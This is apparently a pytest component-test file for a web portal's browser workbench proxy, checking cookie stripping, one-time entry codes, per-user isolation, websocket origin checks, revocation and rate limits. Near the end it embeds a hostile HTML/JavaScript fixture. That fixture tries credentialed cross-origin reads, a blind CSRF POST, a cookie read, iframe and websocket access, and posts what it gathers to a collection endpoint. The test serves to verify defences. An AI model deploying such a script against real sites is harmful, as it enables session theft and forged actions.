"""A workbench in the browser: who gets in, what passes, and what a hostile one reads of the portal: nothing.

The workbench is a real HTTP server on this machine, whose address the test writes on the Pod, as a kubelet does.
"""

import asyncio
import json
import os
from base64 import b64encode
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any, Final

import aiohttp
import httpx
import pytest
from aiohttp import web

from tests.component.controllers.looking import eventually, when
from tests.component.portal.allowing import workbenches_allowed
from tests.component.portal.asking import Setting, setting
from tests.component.portal.harness import Json, PortalWorld
from tests.component.portal.people import RBAC, USER_ROLE
from tests.component.portal.site.browsing import Browsing
from tests.component.portal.wishes import wanted
from tests.support.apiserver import SYSTEM
from tests.support.page import visiting
from vkprovider.portal.pure.benchhost import COOKIE
from vkprovider.portal.web.workbench import ENTER
from vkpsandbox.processes.ports import free_ports

IMAGE: Final = "registry.example.com/workbench:1"
KEY: Final = b64encode(os.urandom(32)).decode()
DOMAIN: Final = "wb.localhost"
BIG: Final = 8 * 1024 * 1024
LABEL: Final = "example.com/bench"
ENDED: Final = {aiohttp.WSMsgType.CLOSE, aiohttp.WSMsgType.CLOSING, aiohttp.WSMsgType.CLOSED}


class Upstream:
    """What runs in a workbench: it tells what it is sent, and shows a hostile page."""

    def __init__(self) -> None:
        self.port = 0
        self.seen: list[dict[str, str]] = []
        self.stolen: list[str] = []
        self.page = ""

    def application(self) -> web.Application:
        app = web.Application(client_max_size=2 * BIG)
        app.router.add_get("/socket", self._socket)
        app.router.add_get("/big", self._big)
        app.router.add_get("/drip", self._drip)
        app.router.add_get("/page", self._page)
        app.router.add_post("/stolen", self._stolen)
        app.router.add_route("*", "/{path:.*}", self._any)
        return app

    async def _any(self, request: web.Request) -> web.StreamResponse:
        self.seen.append(dict(request.headers))
        answer = web.json_response({"path": request.path_qs, "bytes": len(await request.read())})
        answer.headers.add("Set-Cookie", "mine=1; Domain=localhost; Path=/")
        answer.headers.add("Set-Cookie", f"{COOKIE}=taken; Path=/")
        return answer

    async def _page(self, _: web.Request) -> web.StreamResponse:
        return web.Response(text=self.page, content_type="text/html")

    async def _stolen(self, request: web.Request) -> web.StreamResponse:
        self.stolen.append(await request.text())
        return web.Response()

    async def _big(self, request: web.Request) -> web.StreamResponse:
        answer = web.StreamResponse()
        await answer.prepare(request)
        for _ in range(BIG // 65536):
            await answer.write(bytes(65536))
        await answer.write_eof()
        return answer

    async def _drip(self, request: web.Request) -> web.StreamResponse:
        answer = web.StreamResponse()
        await answer.prepare(request)
        while True:
            await answer.write(b".")
            await asyncio.sleep(0.5)

    async def _socket(self, request: web.Request) -> web.StreamResponse:
        self.seen.append(dict(request.headers))
        socket = web.WebSocketResponse(protocols=["v1.kernel"])
        await socket.prepare(request)
        async for message in socket:
            await socket.send_str(f"echo {message.data}")
        return socket


@asynccontextmanager
async def upstream() -> AsyncIterator[Upstream]:
    served = Upstream()
    runner = web.AppRunner(served.application())
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    served.port = runner.addresses[0][1]
    try:
        yield served
    finally:
        await runner.cleanup()


class Desk:
    """A setting with workbenches, and the one of alice."""

    def __init__(self, made: Setting, served: Upstream) -> None:
        self.made = made
        self.served = served
        self.port = made.running.page.port

    def host(self, user: str = "alice") -> str:
        return f"{user}.{DOMAIN}:{self.port}"

    async def lab(self, user: str) -> None:
        """Have a user get a lab with a workbench that answers."""
        running, world = self.made.running, self.made.world
        caller = world.caller(user)._replace(username=f"{self.made.people.prefix}{user}")
        menu = running.replica.choices.menu()
        await running.replica.requests.create(caller, wanted(self.made.family), menu)
        await world.until_phase(user, "complete")
        path = f"{world.namespace(user)}/pods/nb-{user}-workbench"
        await world.admin.until(path, lambda pod: pod["status"].get("phase") == "Running")
        await world.admin.patch(f"{path}/status", {"status": {"podIP": "127.0.0.1", "podIPs": [{"ip": "127.0.0.1"}]}})

        def known() -> bool:
            lab = running.replica.index.lab(user)
            return lab is not None and lab.own_bench is not None and bool(lab.own_bench.status.pod_ip)

        await when(known, "its address is known")

    @asynccontextmanager
    async def browsing(self, person: dict[str, str]) -> AsyncIterator[Browsing]:
        async with Browsing(f"http://127.0.0.1:{self.port}") as browser:
            await browser.log_in(person)
            yield browser

    async def code(self, browser: Browsing, user: str = "alice") -> str:
        """Return the path that opens a workbench once."""
        await browser.get(f"/labs/{user}")
        answer = await browser.post(f"/labs/{user}/workbench", {"X-Piece": "1"})
        assert answer.status_code == 204, answer.text
        there = answer.headers["X-Location"]
        assert there.startswith(f"http://{self.host(user)}{ENTER}")
        return str(there.removeprefix(f"http://{self.host(user)}"))

    async def ask(self, method: str, path: str, user: str = "alice", **headers: str) -> httpx.Response:
        """Send a request to the host of a workbench."""
        async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{self.port}", timeout=60) as http:
            return await http.request(method, path, headers={"Host": self.host(user), **headers})

    async def cookie(self, browser: Browsing, user: str = "alice") -> str:
        """Open a workbench; return its cookie."""
        answer = await self.ask("GET", await self.code(browser, user), user)
        assert (answer.status_code, answer.headers["Location"]) == (303, "/")
        written = answer.headers["Set-Cookie"]
        assert "HttpOnly" in written
        assert "Domain" not in written
        return written.partition(";")[0]


@pytest.fixture
async def desk(world: PortalWorld) -> AsyncIterator[Desk]:
    [port] = free_ports(1)
    family = f"bench-{world.run}"
    async with workbenches_allowed(world.server, world.admin, [IMAGE]), upstream() as served:
        config: Json = {
            "workbenches": {"pyats": {"image": IMAGE, "port": served.port, "nodeSelector": {LABEL: family}}},
            "workbenchOf": {"images": {family: "pyats"}},
        }
        async with setting(
            world,
            config=config,
            family=family,
            VKPROVIDER_PORTAL_COOKIE_KEY=KEY,
            VKPROVIDER_HTTP_PORT=str(port),
            VKPROVIDER_PORTAL_WORKBENCH_HOSTS=f"http://*.{DOMAIN}:{port}",
        ) as made:
            yield Desk(made, served)


async def test_a_learner_opens_the_workbench_and_what_passes_is_its_own(desk: Desk) -> None:
    await desk.lab("alice")
    async with desk.browsing(desk.made.alice) as browser:
        assert "Open the workbench" in (await browser.get("/labs/alice")).text
        path = await desk.code(browser)
        plain = await browser.post("/labs/alice/workbench")
        assert (plain.status_code, f"http://{desk.host()}{ENTER}" in plain.text) == (200, True), "without scripts"
        first = await desk.ask("GET", path)
        assert first.status_code == 303
        assert (await desk.ask("GET", path)).status_code == 403, "once"
        cookie = first.headers["Set-Cookie"].partition(";")[0]
        of_portal = "; ".join(f"{name}={text}" for name, text in browser.cookies.items())
        assert of_portal
        answer = await desk.ask(
            "POST",
            "/api/x?y=1%2F2",
            Cookie=f"{of_portal}; {cookie}; theme=dark",
            Authorization="Bearer mine",
            Origin=f"http://{desk.host()}",
        )
        assert answer.json() == {"path": "/api/x?y=1%2F2", "bytes": 0}
        [seen] = desk.served.seen
        assert seen["Cookie"] == "theme=dark"
        assert seen["Authorization"].startswith("token ")
        assert seen["Host"] == desk.host()
        told = json.dumps(desk.served.seen)
        assert not any(text in told for text in browser.cookies.values())
        assert cookie.partition("=")[2] not in told
        assert answer.headers.get_list("Set-Cookie") == ["mine=1; Path=/"]
        sized = await desk.ask("GET", "/big", Cookie=cookie)
        assert len(sized.content) == BIG
        for own in ("/health", "/metrics", "/labs/alice", "/login", "/nublado/spawner/v1/labs"):
            assert (await desk.ask("GET", own, Cookie=cookie)).json()["path"] == own, "no path of the portal is there"


async def test_the_menu_says_where_a_workbench_is_ready(desk: Desk) -> None:
    made, admin = desk.made, desk.made.world.admin
    names = [f"{made.family}-{name}" for name in ("held", "bare", "tainted")]
    try:
        for name in names:
            meta = {"name": name, "labels": {"kubernetes.io/os": "linux", LABEL: made.family}}
            taints = [{"key": "gpu", "effect": "NoSchedule"}] if name.endswith("tainted") else []
            await admin.create("/api/v1/nodes", {"metadata": meta})
            await admin.patch(f"/api/v1/nodes/{name}", {"spec": {"taints": taints}})  # in the place of not-ready's
            ready = {"conditions": [{"type": "Ready", "status": "True"}], "images": []}
            await admin.patch(f"/api/v1/nodes/{name}/status", {"status": ready})
        async with desk.browsing(made.alice) as browser:

            async def shows(words: str) -> None:
                async def look() -> bool:
                    return f", with a workbench{words}" in (await browser.get("/labs/alice")).text

                await eventually(look, words)

            await shows(", which is loaded first<")
            images = {"images": [{"names": [IMAGE], "sizeBytes": 1}, {"names": ["quay.io/a/b:1"], "sizeBytes": 1}]}
            await admin.patch(f"/api/v1/nodes/{names[0]}/status", {"status": images})
            await shows(", ready on 1 of 2 nodes<")
        answer = await made.client.ask("GET", "/prepulls", made.hub)
        [said] = answer.json()["workbenches"]
        assert said == {"name": "pyats", "image": IMAGE, "nodes": names[:1], "missing": names[1:2], "unknown": []}
    finally:
        for name in names:
            await admin.delete(f"/api/v1/nodes/{name}")


async def test_a_websocket_passes_both_ways_for_its_own_page_alone(desk: Desk) -> None:
    await desk.lab("alice")
    async with desk.browsing(desk.made.alice) as browser:
        cookie = await desk.cookie(browser)
    url = f"http://127.0.0.1:{desk.port}/socket"
    headers = {"Host": desk.host(), "Cookie": cookie, "Origin": f"http://{desk.host()}"}
    async with aiohttp.ClientSession() as http:
        async with http.ws_connect(url, headers=headers, protocols=["v1.kernel"]) as socket:
            assert socket.protocol == "v1.kernel"
            await socket.send_str("show version")
            assert await socket.receive_str(timeout=20) == "echo show version"
        for origin in (f"http://bob.{DOMAIN}:{desk.port}", f"http://127.0.0.1:{desk.port}", "null"):
            with pytest.raises(aiohttp.WSServerHandshakeError) as refused:
                await http.ws_connect(url, headers={**headers, "Origin": origin})
            assert refused.value.status == 403
    assert COOKIE not in json.dumps(desk.served.seen)


async def test_another_learner_s_cookie_code_and_page_open_nothing(desk: Desk) -> None:
    made = desk.made
    bob = await made.people.person("bob", USER_ROLE)
    await desk.lab("alice")
    await desk.lab("bob")
    async with desk.browsing(made.alice) as of_alice, desk.browsing(bob) as of_bob:
        cookie, code = await desk.cookie(of_bob, "bob"), await desk.code(of_bob, "bob")
        assert (await desk.ask("GET", "/", "bob", Cookie=cookie)).status_code == 200
        assert (await desk.ask("GET", "/", "alice", Cookie=cookie)).status_code == 401
        assert (await desk.ask("GET", code, "alice")).status_code == 403
        await of_bob.get("/labs/bob")
        assert (await of_bob.post("/labs/alice/workbench")).status_code == 404
        mine = await desk.cookie(of_alice)
        sibling = {"Cookie": mine, "Origin": f"http://bob.{DOMAIN}:{desk.port}"}
        assert (await desk.ask("POST", "/api/terminals", "alice", **sibling)).status_code == 403
        fetched = {
            "Cookie": mine,
            "Sec-Fetch-Site": "same-site",
            "Sec-Fetch-Mode": "no-cors",
            "Sec-Fetch-Dest": "script",
        }
        assert (await desk.ask("GET", "/api/x", "alice", **fetched)).status_code == 403
        login = await of_bob.get(f"/login/{code.removeprefix(ENTER)}")
        assert (await of_bob.post(str(login.url.path))).status_code != 303, "it is no code of the portal's login"
        assert (await desk.ask("GET", "/", "nobody", Cookie=mine)).status_code == 401
        assert (await desk.ask("GET", "/", "alice")).status_code == 401


async def test_it_ends_with_the_lab_and_with_the_right(desk: Desk) -> None:
    await desk.lab("alice")
    running = desk.made.running
    async with desk.browsing(desk.made.alice) as browser:
        cookie = await desk.cookie(browser)
        await running.replica.requests.delete("alice", "hub")
        await desk.made.world.until_gone("alice")
        assert (await desk.ask("GET", "/", Cookie=cookie)).status_code == 401
        await desk.lab("alice")
        assert (await desk.ask("GET", "/", Cookie=cookie)).status_code == 401, "another lab of the same user"


async def test_what_is_open_ends_with_the_lab_and_half_a_minute_after_the_right(desk: Desk) -> None:
    """About half a minute: the time of a review is the product's own."""
    made = desk.made
    bob = await made.people.person("bob", USER_ROLE)
    cookies = {}
    for user, person in (("alice", made.alice), ("bob", bob)):
        await desk.lab(user)
        async with desk.browsing(person) as browser:
            cookies[user] = await desk.cookie(browser, user)
    url = f"http://127.0.0.1:{desk.port}"

    def headers(user: str) -> dict[str, str]:
        return {"Host": desk.host(user), "Cookie": cookies[user], "Origin": f"http://{desk.host(user)}"}

    async with aiohttp.ClientSession() as http:
        sockets = [await http.ws_connect(f"{url}/socket", headers=headers(user)) for user in ("alice", "bob")]
        dripping = await http.get(f"{url}/drip", headers=headers("alice"))
        for socket in sockets:
            await socket.send_str("show version")
            assert await socket.receive_str(timeout=20) == "echo show version"
        role = f"{RBAC}/namespaces/{SYSTEM}/rolebindings/{made.people.namespace}-alice-{USER_ROLE}"
        await made.world.admin.delete(role)
        await made.running.replica.requests.delete("bob", "hub")
        with pytest.raises(aiohttp.ClientError):
            async with asyncio.timeout(60):
                await dripping.read()
        for socket in sockets:
            assert (await socket.receive(timeout=60)).type in ENDED
        assert (await desk.ask("GET", "/", Cookie=cookies["alice"])).status_code == 403


async def test_a_workbench_that_is_not_there_or_too_busy_is_said_so(desk: Desk) -> None:
    await desk.lab("alice")
    async with desk.browsing(desk.made.alice) as browser:
        cookie = await desk.cookie(browser)
    path = f"{desk.made.world.namespace('alice')}/pods/nb-alice-workbench/status"
    await desk.made.world.admin.patch(path, {"status": {"podIP": "127.0.0.9", "podIPs": [{"ip": "127.0.0.9"}]}})

    async def away() -> bool:
        answer = await desk.ask("GET", "/", Cookie=cookie)
        return answer.status_code == 502 and "does not answer" in answer.text

    await eventually(away, "it is away")
    url, headers = f"http://127.0.0.1:{desk.port}/socket", {"Host": desk.host(), "Cookie": cookie}
    await desk.made.world.admin.patch(path, {"status": {"podIP": "127.0.0.1", "podIPs": [{"ip": "127.0.0.1"}]}})

    async def back() -> bool:
        return (await desk.ask("GET", "/", Cookie=cookie)).status_code == 200

    await eventually(back, "it is back")
    headers["Origin"] = f"http://{desk.host()}"
    async with aiohttp.ClientSession() as http:
        opened = [await http.ws_connect(url, headers=headers) for _ in range(32)]
        with pytest.raises(aiohttp.WSServerHandshakeError) as refused:
            await http.ws_connect(url, headers=headers)
        assert refused.value.status == 429
        assert (await desk.ask("GET", "/", Cookie=cookie)).status_code == 200, "requests have places of their own"
        await asyncio.gather(*(each.close() for each in opened))


HOSTILE: Final = """
<!doctype html><title>notebook</title><p id="done">working</p>
<script>
const portal = "PORTAL", told = [];
const attempt = async (name, what) => {
  try { told.push(name + ":" + await what()); } catch (error) { told.push(name + ":refused"); }
};
(async () => {
  const options = { credentials: "include" };
  await attempt("read", async () => (await (await fetch(portal + "/labs/alice", options)).text()).slice(0, 40));
  await attempt("api", async () => (await fetch(portal + "/nublado/spawner/v1/labs/alice", options)).status);
  await attempt("blind", async () => (await fetch(portal + "/labs/alice/stop",
    { ...options, mode: "no-cors", method: "POST", body: new URLSearchParams({ csrf: "" }) })).type);
  await attempt("cookie", async () => document.cookie || "none");
  await attempt("frame", () => new Promise((resolve, reject) => {
    const frame = document.createElement("iframe");
    frame.onload = () => { try { resolve(frame.contentDocument.body.textContent); } catch (error) { reject(error); } };
    frame.src = portal + "/labs/alice"; document.body.append(frame); setTimeout(reject, 3000);
  }));
  await attempt("socket", () => new Promise((resolve, reject) => {
    const socket = new WebSocket(portal.replace("http", "ws") + "/labs/alice/consoles/r1/stream");
    socket.onopen = () => resolve("open"); socket.onerror = reject; setTimeout(reject, 3000);
  }));
  await fetch("/stolen", { method: "POST", body: JSON.stringify(told) });
  document.querySelector("#done").textContent = "done";
})();
</script>
"""


async def test_hostile_html_reads_and_posts_nothing_of_the_portal(desk: Desk) -> None:
    """In Chromium, by somebody who is logged in to the portal."""
    await desk.lab("alice")
    portal = f"http://localhost:{desk.port}"
    desk.served.page = HOSTILE.replace("PORTAL", portal)
    token = desk.made.alice["Authorization"].removeprefix("Bearer ")
    async with visiting(portal) as page:
        page.expects(r".*")
        await page.log_in(token, "/labs/alice")
        await page.shows("Open the workbench")
        await page.press("button[formaction$='/workbench']")
        await page.until(lambda driver: f"{DOMAIN}:{desk.port}" in driver.current_url, "the workbench is open")
        await page.run(lambda driver: driver.get(f"http://{desk.host()}/page"))
        await page.shows("done", "#done")
    [stolen] = desk.served.stolen
    found = dict(each.split(":", 1) for each in json.loads(stolen))
    assert found.pop("blind") in {"opaque", "refused"}
    assert found == {
        "read": "refused",
        "api": "refused",
        "cookie": "mine=1",
        "frame": "refused",
        "socket": "refused",
    }
    lab = desk.made.running.replica.index.lab("alice")
    assert lab is not None
    assert lab.record.ending is None, "nothing was stopped"


async def test_without_the_setting_no_page_says_anything_of_it(world: PortalWorld) -> None:
    async with setting(world, VKPROVIDER_PORTAL_COOKIE_KEY=KEY) as made, Browsing(made.client.url) as browser:
        await browser.log_in(made.alice)
        assert "workbench" not in (await browser.get("/labs/alice")).text.lower()
        answer: Any = await browser.post("/labs/alice/workbench")
        assert answer.status_code in {404, 405}
